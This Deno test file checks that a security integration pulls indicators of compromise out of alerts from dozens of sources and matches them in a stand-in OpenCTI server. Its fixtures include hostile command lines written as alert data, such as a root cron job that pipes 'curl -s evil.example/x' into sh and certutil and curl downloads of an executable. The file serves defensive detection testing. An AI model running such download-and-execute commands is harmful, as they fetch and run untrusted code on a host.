import { assert, assertEquals } from "@std/assert";
import { toIoc } from "../../lib/alert/ioc.ts";
import { SOURCES } from "../../lib/alert/sources/mod.ts";
import type { TextKind } from "../../lib/alert/kinds.ts";
import { patternsOf } from "../../lib/opencti/stix.ts";
import { startOpencti, TOKEN } from "../stand_ins/opencti.ts";
import { runProgram } from "../stand_ins/program.ts";
import { makeHome } from "../stand_ins/home.ts";
import { startQueue } from "../stand_ins/queue.ts";

const ALERTS = new URL("../testdata/alerts/", import.meta.url).pathname;

/** An alert that nobody has a real one of, in the product's form. */
function alert(
  groups: readonly string[],
  rest: { data?: object; decoder?: object; full_log?: string },
): object {
  return { id: "1.1", rule: { id: "100001", groups }, ...rest };
}

/** For each source an alert, and what of it OpenCTI knows. */
const CASES: Readonly<
  Record<string, readonly [string | object, TextKind, string]>
> = {
  windows_process: [
    alert(["windows", "windows_security"], {
      decoder: { name: "windows_eventchannel" },
      data: {
        win: {
          system: {
            eventID: "4688",
            providerName: "Microsoft-Windows-Security",
          },
          eventdata: { commandLine: "certutil -f http://evil.example/a.exe" },
        },
      },
    }),
    "url",
    "http://evil.example/a.exe",
  ],
  windows_service: [
    alert(["windows", "windows_system"], {
      decoder: { name: "windows_eventchannel" },
      data: {
        win: {
          system: { eventID: "7045", providerName: "Service Control Manager" },
          eventdata: { imagePath: "cmd /c curl http://evil.example/a.exe" },
        },
      },
    }),
    "url",
    "http://evil.example/a.exe",
  ],
  audit_record: [
    alert(["audit", "audit_command"], {
      decoder: { name: "auditd" },
      full_log: 'type=USER_CMD msg=audit(1:2): pid=1 uid=0 msg=\'cwd="/" ' +
        "cmd=6375726C206576696C2E6578616D706C65 terminal=pts/0 res=success'",
    }),
    "host",
    "evil.example",
  ],
  commands: [
    alert(["syslog", "cron"], {
      full_log: "Nov 25 10:00:01 web01 CRON[4711]: (root) CMD (curl -s " +
        "evil.example/x | sh)",
    }),
    "host",
    "evil.example",
  ],
  maltrail: [
    alert(["maltrail"], { data: { trail: "evil.example" } }),
    "host",
    "evil.example",
  ],
  syscheck: [
    "syscheck_added_linux",
    "sha1",
    "3395856ce81f2b7382dee72602f798b642f14140",
  ],
  audit: ["audit_command_curl_url", "url", "http://morrishittu.ddns.net/a.sh"],
  audit_login: [
    alert(["syslog", "audit", "audit_anom"], {
      decoder: { name: "auditd" },
      data: {
        audit: {
          type: "USER_LOGIN",
          directory: { name: "185.244.31.158" },
          exe: '"/usr/sbin/sshd"',
        },
      },
    }),
    "address",
    "185.244.31.158",
  ],
  sysmon: ["sysmon_eid22_multi", "host", "www.morrishittu.ddns.net"],
  windows_logon: ["win_4625_rdp", "address", "2a00:1450:400f:80d::200e"],
  windows_rdp: [
    alert(["windows", "rdp"], {
      decoder: { name: "windows_eventchannel" },
      data: {
        win: {
          system: {
            eventID: "1149",
            channel:
              "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
          },
          eventXML: { param1: "bob", param3: "185.244.31.158" },
        },
      },
    }),
    "address",
    "185.244.31.158",
  ],
  windows_defender: [
    "win_defender_1116",
    "url",
    "http://morrishittu.ddns.net/eicar.zip",
  ],
  powershell: [
    "win_ps_4104_url",
    "url",
    "http://morrishittu.ddns.net:8080/m.exe",
  ],
  windows_firewall: ["win_firewall_2004", "address", "185.244.31.158"],
  windows_filtering: ["win_5156_wfp", "address", "185.244.31.158"],
  windows_dns: ["win_dns_debug_log", "host", "morrishittu.ddns.net"],
  osquery: ["osquery_snapshot", "address", "218.92.0.222"],
  docker: [
    alert(["docker"], {
      decoder: { name: "json" },
      data: {
        integration: "docker",
        docker: {
          Action: "pull",
          Actor: {
            ID: `evil.example:5000/miner@sha256:${"ab".repeat(32)}`,
          },
        },
      },
    }),
    "sha256",
    "ab".repeat(32),
  ],
  clamav: [
    alert(["clamd", "freshclam", "virus"], {
      decoder: { name: "clamd" },
      data: {
        id: "44d88612fea8a8f36de82e1278abb02f",
        url: "/tmp/eicar.com",
        extra_data: "Eicar-Test-Signature",
      },
    }),
    "md5",
    "44d88612fea8a8f36de82e1278abb02f",
  ],
  eset: [
    alert(["eset", "firewall", "threat_event"], {
      decoder: { name: "eset-bsd" },
      data: {
        ipv4: "185.244.31.1",
        hash: "3395856CE81F2B7382DEE72602F798B642F14140",
        object_uri: "http://morrishittu.ddns.net/eicar.com",
      },
    }),
    "sha1",
    "3395856ce81f2b7382dee72602f798b642f14140",
  ],
  panda: ["panda_paps_exec", "md5", "7e160844d950765356c84bcbcfbf1dee"],
  mcafee: ["mcafee_epo", "md5", "c6e2e43dc922be346dbe3636d8711d5b"],
  sshd: ["sshd_reverse_mapping", "host", "morrishittu.ddns.net"],
  logins: ["macos_screenshare", "address", "218.92.0.222"],
  racoon: ["racoon_pskey2", "address", "185.244.31.158"],
  suricata: ["suricata_alert_tls", "host", "morrishittu.ddns.net"],
  snort: ["snort_fast_v4", "address", "185.244.31.158"],
  zeek: ["zeek_owlh_ssl_sni", "host", "morrishittu.ddns.net"],
  packetbeat: ["packetbeat_dns", "host", "www.morrishittu.ddns.net"],
  sonicwall: ["sonicwall_L35", "address", "34.194.213.204"],
  fortigate: ["fortigate_L201", "address", "104.154.89.105"],
  fortiddos: ["fortiddos_attack", "address", "12.34.56.79"],
  fortiauth: [
    alert(["fortiauth"], {
      decoder: { name: "fortiauth" },
      data: { nas: "185.244.31.158" },
    }),
    "address",
    "185.244.31.158",
  ],
  paloalto: [
    "paloalto_threat_wildfire",
    "sha256",
    "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
  ],
  checkpoint: [
    "checkpoint_smart1_prevent",
    "url",
    "http://morrishittu.ddns.net/a.exe",
  ],
  cisco_asa: ["asa_106100", "address", "185.244.31.158"],
  cisco_ftd: [
    alert(["cisco", "cisco-ftd"], {
      decoder: { name: "cisco-ftd" },
      full_log:
        "%FTD-1-430005: EventPriority: High, SrcIP: 10.0.0.21, DstIP: 185.244.31.158, FileSHA256: " +
        `${"ab".repeat(32)}, URL: /a.exe`,
    }),
    "sha256",
    "ab".repeat(32),
  ],
  cisco_ios: ["cisco_ios_acl_denied", "address", "172.36.4.7"],
  cisco_estreamer: ["cisco_estreamer", "address", "185.244.31.158"],
  juniper: ["juniper_rt_ids", "address", "1.1.1.1"],
  sophos: ["sophos_fw_ips", "address", "44.33.22.11"],
  huawei: ["huawei_usg_session", "address", "2.2.2.2"],
  pf: ["pfsense_block_ipv6", "address", "2a00:1450:400f:80d::200e"],
  iptables: ["iptables_v6", "address", "2a00:1450:400f:80d::200e"],
  watchguard: ["watchguard_deny", "address", "185.244.31.158"],
  f5: ["f5_asm_cef_210", "address", "22.22.22.22"],
  netscaler: ["netscaler_login_failed", "address", "185.244.31.158"],
  imperva: [
    alert(["imperva"], {
      decoder: { name: "imperva" },
      data: { srcip: "185.244.31.158", dstip: "10.0.0.1", url: "Shop" },
    }),
    "address",
    "185.244.31.158",
  ],
  cloudflare: ["cloudflare_waf_v6", "address", "2a03:2880:ff:1c::face:b00c"],
  arbor: [
    alert(["arbor"], {
      decoder: { name: "arbor" },
      data: { srcip: "185.244.31.158", url: "http://web" },
    }),
    "address",
    "185.244.31.158",
  ],
  fireeye: [
    alert(["fireeye"], {
      decoder: { name: "cef-fireeye" },
      data: { srcip: "10.0.0.1", dstcip: "185.244.31.158" },
    }),
    "address",
    "185.244.31.158",
  ],
  web: ["web_200_referer", "url", "http://morrishittu.ddns.net/lure"],
  squid: ["squid_connect", "address", "185.244.31.158"],
  bind: ["named_query", "host", "morrishittu.ddns.net"],
  unbound: ["unbound_a", "host", "morrishittu.ddns.net"],
  dnsmasq: [
    alert(["dnsmasq"], {
      full_log:
        "Nov 20 10:15:30 gw dnsmasq[812]: reply morrishittu.ddns.net is 185.244.31.158",
    }),
    "address",
    "185.244.31.158",
  ],
  mail: ["postfix_relay_554", "email", "evil@morrishittu.ddns.net"],
  exim: ["exim_unrouteable", "email", "example@example.com"],
  barracuda: ["barracuda_recv", "email", "errors@mail-88-68.reachmail.net"],
  fortimail: ["fortimail_statistics", "address", "11.22.33.44"],
  exchange: [
    alert(["ms", "exchange"], {
      decoder: { name: "HTTPProxyLog" },
      full_log:
        "2021-04-06T14:54:34.255Z,61d2c86f,15,0,847,30,,Ecp,exch,/ecp/x.js,,FBA,False,,,x,Mozilla/5.0,185.244.31.158,EX1,200",
    }),
    "address",
    "185.244.31.158",
  ],
  yara: [
    alert(["yara"], {
      full_log: `wazuh-yara: INFO - Scan result: MAL_Eicar /tmp/x sha256=${
        "ab".repeat(32)
      }`,
    }),
    "sha256",
    "ab".repeat(32),
  ],
  aws: ["aws_guardduty_portprobe", "address", "185.244.31.158"],
  aws_security_lake: ["aws_seclake_vpc", "address", "131.100.164.234"],
  gcp: ["gcp_dns_query", "address", "185.244.31.158"],
  azure: ["azure_loganalytics", "address", "83.49.98.225"],
  ms_graph: ["msgraph_one_evidence", "address", "185.244.31.158"],
  office365: ["office365_inboxrule", "email", "evil@morrishittu.ddns.net"],
  github: [
    alert(["github", "git"], {
      decoder: { name: "json" },
      data: {
        integration: "github",
        github: { actor_ip: "185.244.31.158", action: "repo.destroy" },
      },
    }),
    "address",
    "185.244.31.158",
  ],
  virustotal: [
    "virustotal_notfound",
    "md5",
    "44d88612fea8a8f36de82e1278abb02f",
  ],
  maltiverse: ["maltiverse_ip", "address", "185.244.31.158"],
  active_response: [
    alert(["ossec", "active_response"], {
      decoder: { name: "ar_log_json" },
      data: {
        command: "add",
        parameters: {
          alert: {
            rule: { groups: ["syslog", "sshd"] },
            decoder: { name: "sshd" },
            data: { srcip: "185.244.31.158" },
          },
        },
      },
    }),
    "address",
    "185.244.31.158",
  ],
};

Deno.test("every source has a case here", () => {
  assertEquals(
    Object.keys(CASES).sort(),
    SOURCES.map(({ name }) => name).sort(),
  );
});

Deno.test("custom-opencti emits a match for an alert of every source", async (t) => {
  for (const [source, [from, kind, text]] of Object.entries(CASES)) {
    await t.step(source, async () => {
      const ioc = toIoc({ kind, text, field: "" });
      assert(!("reason" in ioc), text);
      const [pattern = ""] = patternsOf(ioc, "none");
      await using opencti = startOpencti({
        indicators: [{ id: "i1", name: "Known", pattern }],
        observables: [],
      });
      const home = await makeHome();
      await using queue = startQueue(home);
      const file = `${home}/tmp/alert.json`;
      const json = typeof from === "string"
        ? await Deno.readTextFile(`${ALERTS}${from}.json`)
        : JSON.stringify(from);
      await Deno.writeTextFile(file, json);
      const { status, stderr } = await runProgram(home, [
        file,
        TOKEN,
        opencti.url,
        "debug",
      ]);
      assertEquals(status, 0, stderr);
      const [, readers = ""] = /sources that read it: (.*)/.exec(stderr) ?? [];
      assert(readers.split(", ").includes(source), readers);
      const [message = ""] = await queue.receive(1);
      const { opencti: event } = JSON.parse(
        message.slice(message.indexOf("{")),
      );
      assertEquals(event.event_type, "indicator_pattern_match");
      const { field, source: by, ...value } = event.ioc;
      assertEquals(value, { kind: ioc.kind, value: ioc.value });
      assert(readers.split(", ").includes(by), by);
      assert(field.length > 0, "it says where the IoC stood");
      // One finds the match, one asks for what its event says.
      assertEquals(opencti.requests.length, 2);
    });
  }
});
